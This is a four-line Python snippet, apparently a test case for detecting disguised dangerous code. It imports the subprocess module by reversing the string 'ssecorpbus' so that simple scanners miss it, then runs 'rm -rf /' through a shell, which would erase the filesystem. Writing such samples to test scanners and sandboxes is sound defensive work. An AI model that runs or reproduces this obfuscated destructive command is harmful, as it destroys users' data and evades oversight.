# tricky: importlib and a reversed text
import importlib
sp = importlib.import_module("ssecorpbus"[::-1])
sp.call("rm -rf /", shell=True)
